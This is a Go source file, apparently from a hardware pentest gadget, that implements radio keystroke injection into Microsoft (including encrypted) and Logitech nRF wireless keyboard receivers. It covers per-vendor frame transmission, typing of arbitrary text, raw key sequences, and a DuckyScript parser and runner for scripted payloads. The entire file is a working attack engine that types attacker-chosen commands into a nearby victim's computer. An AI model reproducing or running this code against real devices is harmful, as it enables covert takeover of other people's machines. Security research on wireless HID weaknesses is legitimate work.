package nrf

import (
	"errors"
	"strings"
	"sync"
	"time"

	"github.com/charmbracelet/log"

	"github.com/evilcrow/subghz-gadget/internal/hid"
)

// AttackInterKeyDelay is the pacing delay between keystrokes
// (ATTACK_INTER_KEY_MS in the original).
const AttackInterKeyDelay = 8 * time.Millisecond

var ErrAttackAlreadyRunning = errors.New("nrf: attack already running")

// FrameSink is the radio-side transmit seam for one HID frame,
// addressed and channeled to the already-fingerprinted target. The
// real implementation configures the nRF TX address/channel once per
// attack and then just writes frames (internal/radio); tests
// substitute a recording fake.
type FrameSink interface {
	SendFrame(target Target, frame []byte) error
}

// Attacker drives keystroke injection against a fingerprinted target
// (spec.md §4.9 attack path), built on internal/hid's frame encoders.
type Attacker struct {
	sink FrameSink

	mu      sync.Mutex
	running bool
	stop    chan struct{}
}

func NewAttacker(sink FrameSink) *Attacker {
	return &Attacker{sink: sink}
}

func (a *Attacker) Running() bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.running
}

func (a *Attacker) Stop() {
	a.mu.Lock()
	if !a.running {
		a.mu.Unlock()
		return
	}
	ch := a.stop
	a.mu.Unlock()
	close(ch)
}

func (a *Attacker) begin() (chan struct{}, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.running {
		return nil, ErrAttackAlreadyRunning
	}
	a.running = true
	a.stop = make(chan struct{})
	return a.stop, nil
}

func (a *Attacker) end() {
	a.mu.Lock()
	a.running = false
	a.mu.Unlock()
}

// keyEvent is one resolved modifier+keycode pair to send.
type keyEvent struct {
	modifier hid.Modifier
	key      byte
}

// sendKeystroke transmits one keystroke at the target's protocol.
// Microsoft's frame already embeds the key-up (msTransmit); Logitech
// needs an explicit release frame after the inter-key delay.
func (a *Attacker) sendKeystroke(target Target, stop chan struct{}, ev keyEvent, ms *hid.MicrosoftEncoder) error {
	switch target.Type {
	case DeviceMicrosoft, DeviceMicrosoftCrypt:
		down, up := ms.KeyDownUp(ev.modifier, ev.key)
		if err := a.sink.SendFrame(target, down); err != nil {
			return err
		}
		if err := a.sink.SendFrame(target, up); err != nil {
			return err
		}
	case DeviceLogitech:
		if err := a.sink.SendFrame(target, hid.LogitechFrame(ev.modifier, []byte{ev.key})); err != nil {
			return err
		}
		if !sleepOrStop(AttackInterKeyDelay, stop) {
			return nil
		}
		if err := a.sink.SendFrame(target, hid.LogitechKeyUp()); err != nil {
			return err
		}
	}
	return sleepErr(AttackInterKeyDelay, stop)
}

func sleepOrStop(d time.Duration, stop chan struct{}) bool {
	select {
	case <-stop:
		return false
	case <-time.After(d):
		return true
	}
}

func sleepErr(d time.Duration, stop chan struct{}) error {
	if !sleepOrStop(d, stop) {
		return errStopped
	}
	return nil
}

var errStopped = errors.New("nrf: attack stopped")

func textToEvents(text string) []keyEvent {
	events := make([]keyEvent, 0, len(text))
	for i := 0; i < len(text); i++ {
		c := text[i]
		if c == '\n' {
			events = append(events, keyEvent{hid.ModNone, hid.KeyEnter})
			continue
		}
		mod, key, ok := hid.ASCIIToHID(c)
		if !ok {
			continue
		}
		events = append(events, keyEvent{mod, key})
	}
	return events
}

// InjectString starts a background task typing text as keystrokes
// against target, synchronously if it returns an error before
// launch, asynchronously otherwise. Address-keyed Microsoft
// encryption is applied automatically for DeviceMicrosoftCrypt.
func (a *Attacker) InjectString(target Target, text string) error {
	stop, err := a.begin()
	if err != nil {
		return err
	}
	go a.runEvents(target, stop, textToEvents(text))
	return nil
}

// InjectKeys is the raw-HID attack entry point (startAttack in the
// original): a pre-built sequence of modifier/keycode pairs.
func (a *Attacker) InjectKeys(target Target, keys []byte, modifier hid.Modifier) error {
	stop, err := a.begin()
	if err != nil {
		return err
	}
	events := make([]keyEvent, len(keys))
	for i, k := range keys {
		events[i] = keyEvent{modifier, k}
	}
	go a.runEvents(target, stop, events)
	return nil
}

func (a *Attacker) runEvents(target Target, stop chan struct{}, events []keyEvent) {
	defer a.end()
	ms := hid.NewMicrosoftEncoder(target.Address, target.Type == DeviceMicrosoftCrypt)
	for _, ev := range events {
		select {
		case <-stop:
			return
		default:
		}
		if err := a.sendKeystroke(target, stop, ev, ms); err != nil {
			if err != errStopped {
				log.Error("nrf: keystroke injection failed", "err", err)
			}
			return
		}
	}
}

// duckyOp is one parsed DuckyScript instruction.
type duckyOp struct {
	text  string // STRING payload, or the resolved key token's name
	delay time.Duration
	isKey bool
	mod   hid.Modifier
	key   byte
}

// ParseDuckyScript parses a minimal DuckyScript dialect: STRING
// <text>, DELAY <ms>, a bare modifier/key token line (e.g. "ENTER",
// "CTRL ALT DELETE"), REM/"//" comments, and REPEAT <n> replaying the
// previous non-comment line. DEFAULT_DELAY sets the inter-command
// pause applied after every executed line. Grounded on
// original_source's parseDuckyLine/executeDuckyScript.
func ParseDuckyScript(lines []string) []duckyOp {
	var ops []duckyOp
	var lastLine string
	defaultDelay := time.Duration(0)

	emit := func(line string) {
		switch {
		case strings.HasPrefix(line, "STRING "):
			ops = append(ops, duckyOp{text: strings.TrimPrefix(line, "STRING ")})
		case strings.HasPrefix(line, "DELAY "):
			ms := parseDuckyInt(strings.TrimPrefix(line, "DELAY "))
			ops = append(ops, duckyOp{delay: time.Duration(ms) * time.Millisecond})
		default:
			mod, key, ok := combineDuckyTokens(line)
			if ok {
				ops = append(ops, duckyOp{isKey: true, mod: mod, key: key})
			}
		}
		if defaultDelay > 0 {
			ops = append(ops, duckyOp{delay: defaultDelay})
		}
	}

	for _, raw := range lines {
		line := strings.TrimSpace(raw)
		if line == "" || strings.HasPrefix(line, "REM") || strings.HasPrefix(line, "//") {
			continue
		}
		if strings.HasPrefix(line, "DEFAULT_DELAY ") || strings.HasPrefix(line, "DEFAULTDELAY ") {
			ms := parseDuckyInt(line[strings.Index(line, " ")+1:])
			if ms > 10000 {
				ms = 10000
			}
			defaultDelay = time.Duration(ms) * time.Millisecond
			continue
		}
		if strings.HasPrefix(line, "REPEAT ") {
			reps := parseDuckyInt(strings.TrimPrefix(line, "REPEAT "))
			if reps < 1 {
				reps = 1
			}
			if reps > 500 {
				reps = 500
			}
			if lastLine != "" {
				for r := 0; r < reps; r++ {
					emit(lastLine)
				}
			}
			continue
		}
		emit(line)
		lastLine = line
	}
	return ops
}

func parseDuckyInt(s string) int {
	n := 0
	for _, c := range strings.TrimSpace(s) {
		if c < '0' || c > '9' {
			break
		}
		n = n*10 + int(c-'0')
	}
	return n
}

// combineDuckyTokens resolves a space-separated modifier/key line
// (e.g. "CTRL ALT DELETE") into one combined modifier and the last
// non-modifier key token it names.
func combineDuckyTokens(line string) (hid.Modifier, byte, bool) {
	var mod hid.Modifier
	var key byte
	found := false
	for _, tok := range strings.Fields(line) {
		m, k, ok := hid.DuckyKeyByName(tok)
		if !ok {
			continue
		}
		mod |= m
		if k != hid.KeyNone {
			key = k
		}
		found = true
	}
	return mod, key, found
}

// RunDuckyScript executes a parsed script against target.
func (a *Attacker) RunDuckyScript(target Target, ops []duckyOp) error {
	stop, err := a.begin()
	if err != nil {
		return err
	}
	go func() {
		defer a.end()
		ms := hid.NewMicrosoftEncoder(target.Address, target.Type == DeviceMicrosoftCrypt)
		for _, op := range ops {
			select {
			case <-stop:
				return
			default:
			}
			switch {
			case op.delay > 0:
				if !sleepOrStop(op.delay, stop) {
					return
				}
			case op.text != "":
				for _, ev := range textToEvents(op.text) {
					if err := a.sendKeystroke(target, stop, ev, ms); err != nil {
						return
					}
				}
			case op.isKey:
				if err := a.sendKeystroke(target, stop, keyEvent{op.mod, op.key}, ms); err != nil {
					return
				}
			}
		}
	}()
	return nil
}
